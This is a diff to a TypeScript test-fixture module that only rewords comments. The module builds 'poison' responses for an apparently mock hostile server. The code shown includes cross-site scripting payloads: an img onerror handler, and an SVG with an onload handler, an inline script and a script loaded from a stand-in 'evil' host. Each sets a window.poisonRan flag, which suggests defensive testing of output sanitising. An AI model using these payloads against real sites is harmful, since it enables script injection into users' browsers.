@@ -1,8 +1,8 @@
-/** What a hostile server writes into its answers. Code that runs sets `window.poisonRan`; requests go to `evil`. */
+/** Hostile texts for answers of a server. Code that runs sets `window.poisonRan`; requests go to `evil`. */
 
 const run = "window.poisonRan=1";
 
-/** Texts that are markup, code, addresses or names to somebody, each of its own class. */
+/** Texts of different classes, which some code could treat as markup, code, addresses or names. */
 export function poisonTexts(evil: string): readonly string[] {
   const image = `<img src="${evil}/image" onerror="${run}">`;
   return [
@@ -37,7 +37,7 @@ export function poisonAddresses(evil: string): readonly string[] {
   ];
 }
 
-/** An SVG file that would run and request, were it more than a picture. */
+/** An SVG file that would run code and send requests if it were not only a picture. */
 export function poisonSvg(evil: string): string {
   return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="${run}">
     <script>top.poisonRan=1</script><script href="${evil}/svg-script"/>
